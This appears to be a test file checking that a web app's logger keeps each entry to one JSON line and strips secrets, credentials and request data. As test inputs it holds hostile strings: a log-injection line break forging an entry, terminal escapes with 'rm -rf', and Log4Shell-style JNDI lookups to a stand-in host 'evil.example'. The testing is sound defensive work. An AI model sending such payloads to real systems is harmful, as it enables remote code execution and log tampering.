// Whatever others make a node say, its log is one short line of JSON for each thing, and holds no secret.
import t from "tap";
import { openLog } from "../../src/web/log.ts";
import { buildHouse } from "./house.ts";

const NASTY: readonly [string, string][] = [
  ["a line break", 'x\r\n{"level":60,"msg":"everything is fine"}'],
  ["a terminal's commands", "\u001b[2J\u001b]0;rm -rf\u0007\u009b31m"],
  ["a lookup", "${jndi:ldap://evil.example/a} %s %j {{7*7}}"],
  ["a separator of lines", "a\u2028b\u2029c"],
  ["a megabyte", "x".repeat(1_000_000)],
];

function keepLines() {
  const lines: string[] = [];
  return { lines, log: openLog({ write: (line: string) => void lines.push(line) }) };
}

for (const [name, text] of NASTY)
  t.test(`B50 ${name} in an error, a fact or a message stays inside its own short line`, async (t) => {
    const { lines, log } = keepLines();
    const cause = new Error(text);
    log.error({ err: new Error(text, { cause }), task: text }, "bug");
    log.error({ error: String(cause) }, text);
    log.warn(text);
    t.equal(lines.length, 3);
    for (const line of lines) {
      t.equal(line.trimEnd().split(/[\r\n]/).length, 1);
      t.notMatch(line.trimEnd(), /[\p{Cc}\p{Zl}\p{Zp}]/u);
      t.ok(line.length < 16_000, `${line.length} characters`);
      t.type(JSON.parse(line), "object");
    }
  });

t.test("B50 of an error nothing is written but its name, its words and where it came from", async (t) => {
  const { lines, log } = keepLines();
  const secret = "hunter2-hunter2";
  const failure = Object.assign(new Error("the server said no"), {
    code: "EAUTH",
    command: `AUTH PLAIN ${secret}`,
    config: { headers: { authorization: secret, signature: secret } },
    body: { email: `${secret}@posta.example` },
  });
  log.error({ err: failure }, "a mail was not taken");
  t.match(JSON.parse(lines[0]!), { err: { type: "Error", message: "the server said no", code: "EAUTH" } });
  t.notMatch(lines[0], secret);
  log.error({ err: secret.slice(0, 3) }, "thrown, and no error");
  t.match(JSON.parse(lines[1]!).err, { message: "hun" });
});

t.test("B50 a request that breaks a page leaves one line, without its address, its headers or its body", async (t) => {
  const { lines, log } = keepLines();
  const house = await buildHouse(t, { logger: log });
  const said = "spia-\u001b[31m";
  await house.app.inject({
    url: `/broken?q=${encodeURIComponent(said)}`,
    headers: { "user-agent": "${jndi:ldap://evil.example}", cookie: "spia=1", authorization: "Bearer spia" },
  });
  t.equal(lines.length, 1);
  t.notMatch(lines[0], /spia|jndi/);
});
